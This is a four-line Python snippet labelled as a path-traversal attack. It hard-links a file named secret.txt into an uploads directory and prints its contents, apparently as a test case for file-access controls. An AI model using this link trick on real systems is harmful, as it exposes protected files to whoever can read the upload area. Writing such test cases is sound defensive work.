# attack: path-traversal
import os
os.link(os.path.abspath("secret.txt"), "uploads/mine.txt")
print(open("uploads/mine.txt").read())
